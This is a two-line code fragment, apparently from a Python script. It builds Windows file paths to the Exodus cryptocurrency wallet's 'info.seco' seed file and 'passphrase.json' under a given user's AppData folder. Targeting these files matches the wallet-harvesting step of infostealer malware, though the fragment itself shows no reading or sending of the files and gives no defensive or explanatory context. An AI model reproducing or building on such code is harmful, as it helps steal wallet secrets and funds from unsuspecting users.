info = "C:\\Users\\" + username + "\\appdata\\roaming\\exodus\\exodus.wallet\\info.seco"
passphrase = "C:\\Users\\" + username + "\\appdata\\roaming\\exodus\\exodus.wallet\\passphrase.json"
